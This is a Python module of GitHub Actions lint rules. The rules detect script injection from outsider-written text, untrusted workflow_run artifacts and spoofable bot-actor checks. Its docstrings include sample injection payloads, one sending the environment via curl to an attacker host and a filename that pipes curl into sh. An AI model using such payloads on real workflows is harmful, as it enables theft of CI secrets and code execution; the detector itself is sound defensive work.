"""Text and files from outside used as code in GitHub Actions: an expression naming what an
outsider wrote, pasted into a script; a workflow_run job that trusts the triggering run's
artifacts."""

from __future__ import annotations

import re
from bisect import bisect_right
from collections.abc import Iterator
from typing import NamedTuple

from sandkit.lazy_regex import AnyPattern, lazy
from sandkit.lint.facts.run_scripts import REDIRECT, HereDoc, program, script_lines, segment_at, segments, structure
from sandkit.lint.facts.workflows import Job, jobs, never_runs, secret_refs, triggers, workflow
from sandkit.lint.kinds import ACTION, WORKFLOW
from sandkit.lint.model import Hit
from sandkit.lint.registry import rule
from sandkit.lint.source import SourceFile
from sandkit.lint.syntax.tree import PMap, PSeq, PStr

_EXPRESSION = lazy(r"\$\{\{(.{0,500}?)\}\}", re.S)
#: Context values anyone who opens an issue, comments, names a branch or writes a commit sets.
_OUTSIDER_TEXT = lazy(
    r"github\s*\.\s*event\s*\.\s*(?:"
    r"(?:issue|pull_request|discussion)\s*\.\s*(?:title|body)|"
    r"(?:comment|review|review_comment)\s*\.\s*body|"
    r"pages\s*\.\s*[^.\s]+\s*\.\s*page_name|"
    r"(?:commits\s*\.\s*[^.\s]+|head_commit)\s*\.\s*(?:message|author\s*\.\s*(?:email|name))|"
    r"pull_request\s*\.\s*head\s*\.\s*(?:ref|label|repo\s*\.\s*default_branch)|"
    r"workflow_run\s*\.\s*(?:head_branch|display_title|head_commit\s*\.\s*(?:message|author\s*\.\s*(?:email|name))|"
    r"pull_requests\s*\.\s*[^.\s]+\s*\.\s*head\s*\.\s*ref)"
    r")\b|github\s*\.\s*head_ref\b"
)
#: Of those, the values that are one line: branch names (git refuses control characters in a ref
#: name, a line break among them) and the ``owner:branch`` label. Titles are not: GitHub's API
#: accepts a line break in an issue's or pull request's title.
_ONE_LINE = lazy(
    r"github\s*\.\s*event\s*\.\s*(?:"
    r"pull_request\s*\.\s*head\s*\.\s*(?:ref|label|repo\s*\.\s*default_branch)|"
    r"workflow_run\s*\.\s*(?:head_branch|pull_requests\s*\.\s*[^.\s]+\s*\.\s*head\s*\.\s*ref)"
    r")|github\s*\.\s*head_ref"
)
#: Programs that take a here-document as text, not as code, and pass it on or post it: the
#: document's text reaches no shell or interpreter through them.
_TEXT_READERS = frozenset(
    {"cat", "tee", "gh", "jq", "base64", "tr", "wc", "sort", "head", "tail", "cut", "uniq", "fold", "column"}
    | {"xxd", "rev", "gzip", "echo", "printf"}
)
#: Files a here-document written to is code another step runs (``cat <<'EOF' > build.sh``).
_SCRIPT_FILE = lazy(
    r"(?i)\.(?:sh|bash|zsh|ksh|fish|py|js|mjs|cjs|ts|rb|pl|php|ps1|psm1|bat|cmd|lua|groovy|mk)$|"
    r"(?:^|/)(?:makefile|justfile|dockerfile|containerfile|\.envrc|\.bashrc|\.bash_profile|\.profile|\.zshrc)$"
)
#: ``toJSON(...)`` of an object (``github``, ``github.event``, ``github.event.pull_request`` ...):
#: its JSON holds every value below it.
_TO_JSON = lazy(r"(?i)\btoJSON\s*\(\s*(github(?:\s*(?:\.\s*[\w*-]+|\[[^\]]{0,80}\]))*)\s*\)")
#: The paths of _OUTSIDER_TEXT, with ``N`` for an index or ``*``: an object on the way to one of
#: them holds outsider text.
_OUTSIDER_PATHS = (
    *(
        "github.event." + p
        for p in (
            *(f"{o}.{f}" for o in ("issue", "pull_request", "discussion") for f in ("title", "body")),
            *(f"{o}.body" for o in ("comment", "review", "review_comment")),
            "pages.N.page_name",
            *(f"{c}.{f}" for c in ("commits.N", "head_commit") for f in ("message", "author.email", "author.name")),
            "pull_request.head.ref",
            "pull_request.head.label",
            "pull_request.head.repo.default_branch",
            *(f"workflow_run.{f}" for f in ("head_branch", "display_title", "head_commit.message")),
            *(f"workflow_run.head_commit.author.{f}" for f in ("email", "name")),
            "workflow_run.pull_requests.N.head.ref",
        )
    ),
    "github.head_ref",
)


def _object_of_outsider_text(path: str) -> bool:
    """Whether a context path (``github.event.pull_request``, ``github.event.commits[0]``) is an
    object that holds text an outsider wrote."""
    words = re.sub(r"\s+", "", path).lower()
    words = re.sub(r"\[[^\]]*\]|\.\*", ".N", words)
    return any(p == words or p.startswith(words + ".") for p in _OUTSIDER_PATHS)


_SCRIPT_ACTIONS = ("actions/github-script",)
#: Downloading the triggering run's artifacts: the official action given its run id, the
#: community action, ``gh run download`` or github-script's artifact API.
_DOWNLOAD_ACTIONS = ("actions/download-artifact", "dawidd6/action-download-artifact")
_RUN_ARTIFACT = lazy(r"gh\s+run\s+download|listWorkflowRunArtifacts|downloadArtifact|/artifacts/[^\s]*/zip")


def _scripts(file: SourceFile) -> Iterator[tuple[PStr, bool, PMap]]:
    """``run:`` strings and actions/github-script ``script:`` inputs, whether each is a shell
    script (a ``run:`` with no ``shell:``, or bash or sh), and the step that holds it. Not a step
    of a workflow's job that never runs, nor a step that never runs (``if: false``)."""
    off = _switched_off(file)
    for node in file.mappings():
        if id(node) in off:
            continue
        run = node.get("run")
        if isinstance(run, PStr):
            shell = node.get("shell")
            yield run, shell is None or (isinstance(shell, str) and shell.split()[:1] in (["bash"], ["sh"])), node
        uses, with_ = node.get("uses"), node.get("with")
        if isinstance(uses, str) and uses.lower().startswith(_SCRIPT_ACTIONS) and isinstance(with_, PMap):
            script = with_.get("script")
            if isinstance(script, PStr):
                yield script, False, node


def _switched_off(file: SourceFile) -> set[int]:
    """The ids of the steps of a workflow that never run: every step of a job whose ``if:`` is
    always false, and each step whose own ``if:`` is."""
    doc = workflow(file)
    table = doc.get("jobs") if doc is not None else None
    off: set[int] = set()
    for spec in table.values() if isinstance(table, PMap) else ():
        steps = spec.get("steps") if isinstance(spec, PMap) else None
        for step in steps if isinstance(steps, PSeq) else ():
            if isinstance(step, PMap) and (never_runs(spec) or never_runs(step)):
                off.add(id(step))
    return off


class _Lister(NamedTuple):
    """A step that lists the names of changed files in its outputs."""

    action: str  #: the action as written, without its ref
    outputs: AnyPattern  #: its outputs that hold file names
    severity: str  #: "" for the rule's own
    why: str
    shell_quoted: bool  #: the names are quoted for a shell (paths-filter's ``list-files: shell``)


#: tj-actions/changed-files and its copies under another owner (step-security/changed-files) list
#: names in every output ending in ``files`` (``all_changed_files``, ``added_files``,
#: ``<key>_modified_files`` ...; not ``any_changed`` or ``*_count``); tj-actions/verify-changed-files
#: in ``changed_files``. Both escape the characters a shell acts on by default (``safe_output``)
#: since v41 and v17 respectively, after GHSA-mcph-m25j-8j63 (CVE-2023-51664).
_CHANGED_FILES = lazy(r"(?i)^[\w.-]+/(changed-files|verify-changed-files)$")
_SAFE_SINCE = {"changed-files": 41, "verify-changed-files": 17}
_FILES_OUTPUT = lazy(r"(?i)^[\w-]*files$")
#: jitterbit/get-changed-files and its fork Ana06's list names in ``all``, ``added``, ``modified``,
#: ``removed``, ``renamed`` and ``added_modified``; lots0logs/gh-action-get-changed-files (a JSON
#: array each) in ``all``, ``added``, ``deleted``, ``renamed`` and ``modified``.
_GET_CHANGED_FILES = (
    "jitterbit/get-changed-files",
    "ana06/get-changed-files",
    "lots0logs/gh-action-get-changed-files",
)
_GET_CHANGED_OUTPUT = lazy(r"(?i)^(?:all|added|removed|deleted|renamed|modified|added_modified)$")
#: dorny/paths-filter lists a filter's names in ``<filter>_files`` when ``list-files`` is not none.
_PATHS_FILTER_OUTPUT = lazy(r"(?i)^[\w-]+_files$")
_MAJOR = lazy(r"^v(\d{1,4})\b")


def _file_lister(step: PMap) -> _Lister | None:
    """What a step that lists changed files' names lists, or None for any other step."""
    uses = step.get("uses")
    if not isinstance(uses, str) or uses.startswith(("./", "docker://")):
        return None
    name, _, ref = uses.partition("@")
    name = name.strip()
    with_ = step.get("with")
    inputs = with_ if isinstance(with_, PMap) else PMap(step.pos)
    lowered = name.lower()
    changed = _CHANGED_FILES.match(lowered)
    if changed:
        since = _SAFE_SINCE[changed.group(1)]
        major = _MAJOR.match(ref.strip())
        safe = inputs.get("safe_output")
        if safe is False or (isinstance(safe, str) and safe.strip().lower() == "false"):
            return _Lister(name, _FILES_OUTPUT, "", "", False)
        if major and int(major.group(1)) < since:
            return _Lister(name, _FILES_OUTPUT, "", "", False)
        why = (
            f"the action escapes the characters a shell acts on in the names it lists (safe_output, on by "
            f"default since v{since}): the script's safety rests on the action's escaping, not on quoting"
        )
        return _Lister(name, _FILES_OUTPUT, "medium", why, False)
    if lowered in _GET_CHANGED_FILES:
        return _Lister(name, _GET_CHANGED_OUTPUT, "", "", False)
    if lowered == "dorny/paths-filter":
        listing = inputs.get("list-files")
        if listing is None or (isinstance(listing, str) and listing.strip().lower() in ("", "none")):
            return None
        quoted = isinstance(listing, str) and listing.strip().lower() in ("shell", "escape")
        return _Lister(name, _PATHS_FILTER_OUTPUT, "", "", quoted)
    return None


#: ``steps.ID.outputs.NAME`` and ``needs.JOB.outputs.NAME``.
_OUTPUT_REF = lazy(r"\b(steps|needs)\s*\.\s*([\w-]+)\s*\.\s*outputs\s*\.\s*([\w-]+)")
#: Triggers on which a pull request's author chooses the names of the files it changes (a reusable
#: workflow's callers and a workflow_run's triggering run may be such).
_NAMES_FROM_PULL_REQUESTS = frozenset(
    {
        "pull_request",
        "pull_request_target",
        "pull_request_review",
        "pull_request_review_comment",
        "issue_comment",
        "workflow_call",
        "workflow_run",
    }
)
_PUSHED_NAMES_WHY = (
    "no trigger of this workflow is a pull request's: the names are of files already on a branch of "
    "this repository, which only those with write access (or a merge they made) put there"
)


class _Listed(NamedTuple):
    """A reference to outputs that hold changed files' names."""

    text: str
    lister: _Lister


def _listed_outputs(file: SourceFile) -> dict[int, dict[tuple[str, str], _Lister]]:
    """For each step (by ``id()``), the outputs its expressions may name that hold changed files'
    names: ``("steps", ID)`` and ``("needs", JOB)`` keys to the step listing them."""
    by_step: dict[int, dict[tuple[str, str], _Lister]] = {}
    job_outputs: dict[str, dict[str, _Lister]] = {}
    holders = [node for node in file.mappings() if isinstance(node.get("steps"), PSeq)]
    doc = workflow(file)
    local: list[tuple[list[PMap], dict[tuple[str, str], _Lister]]] = []
    for holder in holders:
        sequence = holder.get("steps")
        steps = [s for s in sequence if isinstance(s, PMap)] if isinstance(sequence, PSeq) else []
        listers: dict[tuple[str, str], _Lister] = {}
        for step in steps:
            sid, lister = step.get("id"), _file_lister(step)
            if isinstance(sid, str) and lister is not None:
                listers[("steps", sid.strip())] = lister
        local.append((steps, listers))
        outputs = holder.get("outputs")
        if listers and isinstance(outputs, PMap) and doc is not None:
            for job in jobs(doc):
                if job.spec is holder:
                    for key, value in outputs.items():
                        found = _names_in(str(value), listers) if isinstance(value, str) else None
                        if found is not None:
                            job_outputs.setdefault(job.name, {})[str(key)] = found.lister
    for steps, listers in local:
        table = dict(listers)
        for name, outs in job_outputs.items():
            for output, lister in outs.items():
                table[("needs", f"{name}.{output}")] = lister
        if not table:
            continue
        for step in steps:
            by_step[id(step)] = table
    return by_step


def _names_in(expression: str, table: dict[tuple[str, str], _Lister]) -> _Listed | None:
    """The first reference in an expression to outputs holding changed files' names."""
    for ref in _OUTPUT_REF.finditer(expression):
        kind, owner, output = ref.group(1), ref.group(2), ref.group(3)
        if kind == "steps":
            lister = table.get(("steps", owner))
            if lister is not None and lister.outputs.match(output):
                return _Listed(" ".join(ref.group(0).split()), lister)
        else:
            lister = table.get(("needs", f"{owner}.{output}"))
            if lister is not None:
                return _Listed(" ".join(ref.group(0).split()), lister)
    return None


@rule(
    "CP006",
    "untrusted-text-in-script",
    category="ci-permissions",
    severity="high",
    kinds=(WORKFLOW, ACTION),
    triggers=("${{",),
)
def untrusted_text_in_script(file: SourceFile) -> Iterator[Hit]:
    """An expression naming text an outsider wrote is pasted into a `run:` script.

    `${{ github.event.comment.body }}`, an issue's, pull request's or discussion's title or
    body, a review's body, commit messages and author names, a branch name
    (`github.head_ref`, `pull_request.head.ref`, workflow_run's `head_branch`) and wiki
    page names, in a `run:` step or an actions/github-script `script:`; so is `toJSON(...)` of
    an object that holds one (`toJSON(github.event.pull_request)`, `toJSON(github.event)`,
    `toJSON(github)`, `toJSON(github.event.commits[0])`): its JSON is that text, and `'` or `"`
    in a title ends the quoted word it is pasted in. `toJSON` of objects no outsider writes
    (`github.event.inputs`, `...pull_request.labels`, `needs`) is not. The expression is
    replaced by its text before the shell (or JavaScript) reads the script. A branch name in the
    body of a quoted here-document (`cat <<'EOF' > notes.md`, `--body "$(cat <<'EOF'`) given only
    to commands that read it as text (cat, tee, gh, jq ...; no shell, interpreter, `eval`,
    `envsubst` or script file) is info: a branch name holds no line break, and bash expands
    nothing there. Titles, bodies and commit messages stay high, with that reason: they may hold
    a line equal to the delimiter, and the lines after it run (a title too: GitHub's API accepts
    a line break in one).

    The names of the files a pull request changes are outsider text too:
    `${{ steps.X.outputs.all_changed_files }}` where step `X` is tj-actions/changed-files (or a
    copy of it under another owner, or tj-actions/verify-changed-files), jitterbit's or Ana06's
    get-changed-files, or dorny/paths-filter's `<filter>_files` with `list-files` csv or json,
    and a job's output (`needs.J.outputs.N`) that passes one on. Medium for tj-actions' own
    actions from v41 (v17 for verify-changed-files), which escape shell characters in the names
    unless `safe_output: false`; paths-filter's `list-files: shell` or `escape` quote the names
    for a shell and are not findings in a shell `run:`. Info when no trigger of the workflow is
    a pull request's (`push`, `schedule`: the names are already on a branch); outputs of other
    steps are not read.

    Why:
    A comment or branch name such as `"; curl -d "$(env)" https://attacker.example.com #`
    becomes a command of the script, run with the job's token and secrets: on a comment or
    pull_request_target workflow, by anyone.

    Fix:
    Pass the value through the environment (`env: {BODY: ${{ github.event.comment.body }}}`)
    and use `"$BODY"` in the script, quoted.
    """
    listed = _listed_outputs(file) if "outputs" in file.text else {}
    flow = workflow(file)
    on = triggers(flow) if flow is not None else set()
    pushed_only = bool(on) and not on & _NAMES_FROM_PULL_REQUESTS
    for script, shell, step in _scripts(file):
        if "${{" not in script:
            continue
        table = listed.get(id(step), {})
        bodies = _text_bodies(script) if shell and "<<" in script else []
        starts = [start for start, _, _ in bodies]
        opened_by: dict[tuple[int, int], bool] = {}  # here-document -> a value of many lines met in it
        for match in _EXPRESSION.finditer(script):
            named = list(_OUTSIDER_TEXT.finditer(match.group(1)))
            objects = [m for m in _TO_JSON.finditer(match.group(1)) if _object_of_outsider_text(m.group(1))]
            if not named and not objects:
                names = _names_in(match.group(1), table) if table else None
                if names is not None and not (names.lister.shell_quoted and shell):
                    where = bisect_right(starts, match.start()) - 1
                    in_doc = where >= 0 and match.start() < bodies[where][1]
                    yield _changed_names_hit(file, script, match.start(), names, pushed_only, in_doc)
                continue
            text = " ".join((named or objects)[0].group(0).split())
            where = bisect_right(starts, match.start()) - 1
            doc = bodies[where][2] if where >= 0 and match.start() < bodies[where][1] else None
            if doc is not None:
                key = (doc.start, doc.at)
                one_line = not objects and all(_ONE_LINE.fullmatch(n.group(0)) for n in named)
                if one_line and not opened_by.get(key):
                    yield Hit(
                        file.str_pos(script, match.start()),
                        f"{text} is pasted into a quoted here-document, as text",
                        severity="info",
                        why="a branch name holds no line break, and bash expands nothing in a quoted "
                        "here-document's body; only a name equal to the delimiter ends it early",
                    )
                    continue
                after_many = opened_by.get(key, False)
                opened_by[key] = after_many or not one_line
                how = (
                    " after a value of many lines, which can end the document early: this line then runs as code"
                    if one_line
                    else f": a line break in it followed by a line `{doc.delimiter}` ends the document, and the lines"
                    " after run as code"
                    + (" (a title can hold a line break: GitHub's API accepts one)" if "title" in text else "")
                )
                yield Hit(file.str_pos(script, match.start()), f"{text} is pasted into a quoted here-document{how}")
                continue
            yield Hit(file.str_pos(script, match.start()), f"{text} is pasted into a script as code")


def _changed_names_hit(
    file: SourceFile, script: PStr, offset: int, names: _Listed, pushed_only: bool, in_doc: bool
) -> Hit:
    """CP006 on changed files' names pasted into a script: the names are the pull request's to
    choose (git refuses only ``/`` in a name's part and NUL: ``$(curl x|sh).txt`` and a line break
    are allowed), so a quoted here-document does not hold them either."""
    where = (
        "a quoted here-document (a name may hold a line break: a line equal to the delimiter ends the "
        "document, and the lines after run as code)"
        if in_doc
        else "a script as code"
    )
    message = (
        f"{names.text} is pasted into {where}: it holds the names of changed files, listed by "
        f"{names.lister.action}, which a pull request's author chooses (a file named `$(cmd).txt` runs cmd)"
    )
    fix = (
        f'Pass the names through the environment (`env: {{FILES: ${{{{ {names.text} }}}}}}`) and use "$FILES", quoted.'
    )
    pos = file.str_pos(script, offset)
    if pushed_only:
        return Hit(pos, message, fix, severity="info", why=_PUSHED_NAMES_WHY)
    return Hit(pos, message, fix, severity=names.lister.severity, why=names.lister.why)


def _text_bodies(script: str) -> list[tuple[int, int, HereDoc]]:
    """(start, end, here-document) of each body line of a quoted here-document whose text goes
    only to commands that read it as text, in order."""
    found: list[tuple[int, int, HereDoc]] = []
    as_text: dict[tuple[int, int], bool] = {}
    for line in script_lines(script):
        doc = line.heredoc
        if doc is None or not doc.quoted:
            continue
        key = (doc.start, doc.at)
        if key not in as_text:
            as_text[key] = _read_as_text(doc)
        if as_text[key]:
            found.append((line.start, line.start + len(line.text), doc))
    return found


def _read_as_text(doc: HereDoc) -> bool:
    """Whether a here-document's text goes only to commands that read it as text (``cat``,
    ``tee``, ``gh``, ``jq`` ...), and into no file that is a script: not to a shell or an
    interpreter (``bash <<'EOF'``, ``cat <<'EOF' | sh``, ``python - <<'EOF'``, ``ssh host``), nor
    through ``eval "$(cat <<'EOF'``."""
    line = doc.line
    shell = structure(line)
    parts = segments(shell)
    index = segment_at(parts, doc.at)
    segment = parts[index]
    opened = line.rfind("$(", segment.start, doc.at)
    if opened >= 0 and ")" not in line[opened : doc.at]:
        # ``--body "$(cat <<'EOF'``: the command inside the substitution, and the one it is an argument of
        outer = program(line[segment.start : opened])  # "" for an assignment, ``BODY=$(cat <<'EOF'``
        readers = [outer, program(line[opened + 2 : doc.at])] if outer else [program(line[opened + 2 : doc.at])]
    else:
        readers = [program(line[segment.start : doc.at])]
    if any(name not in _TEXT_READERS for name in readers):
        return False
    first = index
    while True:
        text = line[segment.start : segment.end]
        if index != first and program(text) not in _TEXT_READERS:
            return False
        targets = [
            line[r.start(3) : r.end(3)] for r in REDIRECT.finditer(shell, segment.start, segment.end) if r.group(3)
        ]
        if program(text) == "tee":
            targets += [w for w in text.split()[1:] if not w.startswith(("-", "<", ">"))]
        if any(_SCRIPT_FILE.search(t.strip("\"'")) for t in targets):
            return False
        if not (segment.piped and index + 1 < len(parts)):
            return True
        index += 1
        segment = parts[index]


def _downloads_trigger_artifact(step: PMap) -> PStr | None:
    uses, run, with_ = step.get("uses"), step.get("run"), step.get("with")
    inputs = with_ if isinstance(with_, PMap) else PMap(step.pos)
    if isinstance(uses, PStr):
        name = uses.split("@", 1)[0].lower()
        if name.startswith(_DOWNLOAD_ACTIONS[1]):
            return uses
        if name.startswith(_DOWNLOAD_ACTIONS[0]) and "workflow_run" in str(inputs.get("run-id") or ""):
            return uses
        script = inputs.get("script")
        if name.startswith(_SCRIPT_ACTIONS) and isinstance(script, PStr) and _RUN_ARTIFACT.search(script):
            return script
    if isinstance(run, PStr) and _RUN_ARTIFACT.search(run) and "workflow_run" in run:
        return run
    return None


def _privileged(file: SourceFile, doc: PMap, job: Job) -> bool:
    perms = job.spec.get("permissions", doc.get("permissions"))
    writes = perms == "write-all" or (isinstance(perms, PMap) and "write" in perms.values())
    return writes or any(True for _ in secret_refs(file, job.spec))


@rule(
    "CP007",
    "workflow-run-artifact",
    category="ci-permissions",
    severity="medium",
    kinds=(WORKFLOW,),
    triggers=("workflow_run",),
)
def workflow_run_artifact(file: SourceFile) -> Iterator[Hit]:
    """A workflow_run job downloads the artifacts of the run that triggered it.

    actions/download-artifact with a `run-id` from `github.event.workflow_run`,
    dawidd6/action-download-artifact, `gh run download` of the triggering run, or
    github-script's artifact API, in a workflow started by `workflow_run`. High when the
    job holds secrets or write scopes (or inherits write-all); medium otherwise.

    Why:
    The triggering run may be a fork's pull request: its code wrote the artifact. The
    workflow_run job runs with the base repository's token and secrets, so an artifact that
    is unpacked over the workspace, executed, sourced or written to `$GITHUB_ENV` runs the
    fork's code with them.

    Fix:
    Treat the artifact as data: download it to a folder outside the workspace (such as
    `${{ runner.temp }}`), validate what you read from it (a number is a number), and never
    run, source or append it to `$GITHUB_ENV`.
    """
    doc = workflow(file)
    if doc is None or "workflow_run" not in triggers(doc):
        return
    for job in jobs(doc):
        privileged = _privileged(file, doc, job)
        for step in job.steps:
            found = _downloads_trigger_artifact(step)
            if found is not None:
                holds = "with secrets or write scopes" if privileged else "without secrets"
                yield Hit(
                    found.pos,
                    f'job "{job.name}" unpacks artifacts of the triggering run (a fork can write them) {holds}',
                    severity="high" if privileged else "",
                    why="the job holds secrets or write scopes" if privileged else "",
                )


#: ``github.actor == 'dependabot[bot]'`` (or ``triggering_actor``, either side, either quote).
_BOT_ACTOR = lazy(
    r"github\s*\.\s*(?:actor|triggering_actor)\s*==\s*['\"]([\w.-]{1,60}\[bot\])['\"]|"
    r"['\"]([\w.-]{1,60}\[bot\])['\"]\s*==\s*github\s*\.\s*(?:actor|triggering_actor)"
)
#: Triggers whose jobs run in the base repository with its token and secrets, started by events a
#: fork's author can cause after a bot last touched the pull request.
_BASE_CONTEXT = frozenset(
    {"pull_request_target", "workflow_run", "issue_comment", "pull_request_review", "pull_request_review_comment"}
)
#: Approving or merging: what a bot check usually guards.
_APPROVES = lazy(
    r"(?i)gh\s+pr\s+(?:review\b[^\n]{0,200}--approve|merge\b)|auto-?approve|auto-?merge|"
    r"enablePullRequestAutoMerge|createReview"
)


@rule(
    "CP008",
    "spoofable-bot-condition",
    category="ci-permissions",
    severity="medium",
    kinds=(WORKFLOW,),
    triggers=("[bot]",),
)
def spoofable_bot_condition(file: SourceFile) -> Iterator[Hit]:
    """A job or step runs only `if: github.actor == 'dependabot[bot]'`, in a workflow a fork can start.

    `github.actor` (and `github.triggering_actor`) is whoever caused the latest event, not who
    wrote the pull request: in a workflow started by `pull_request_target`, `workflow_run`,
    `issue_comment` or a review event, a fork's author can have Dependabot (or another bot)
    update their branch, and the check passes for their code. High when the guarded job
    approves or merges (`gh pr review --approve`, `gh pr merge`, an auto-approve or auto-merge
    action) or holds write scopes or secrets; medium otherwise. Checks of
    `github.event.pull_request.user.login` are not findings.

    Why:
    The condition is the only thing between an outsider's pull request and a job that trusts
    it: an auto-approve job approves the attacker's change, one with secrets hands them over.

    Fix:
    Check who opened the pull request, which a fork cannot change:
    `github.event.pull_request.user.login == 'dependabot[bot]'`, and run Dependabot jobs on
    `pull_request`, whose token a fork's run cannot use to write.
    """
    doc = workflow(file)
    if doc is None or not triggers(doc) & _BASE_CONTEXT:
        return
    for job in jobs(doc):
        guarded = [job.spec, *job.steps]
        conditions = [node.get("if") for node in guarded]
        found = [c for c in conditions if isinstance(c, PStr) and _BOT_ACTOR.search(c)]
        if not found:
            continue
        texts = [str(step.get("run", "")) + " " + str(step.get("uses", "")) for step in job.steps]
        trusting = any(_APPROVES.search(text) for text in texts) or _privileged(file, doc, job)
        for condition in found:
            match = _BOT_ACTOR.search(condition)
            bot = (match.group(1) or match.group(2)) if match else "a bot"
            yield Hit(
                condition.pos,
                f'job "{job.name}" trusts github.actor == {bot!r}, which a fork\'s author can make true',
                severity="high" if trusting else "",
                why="the job approves or merges, or holds write scopes or secrets" if trusting else "",
            )
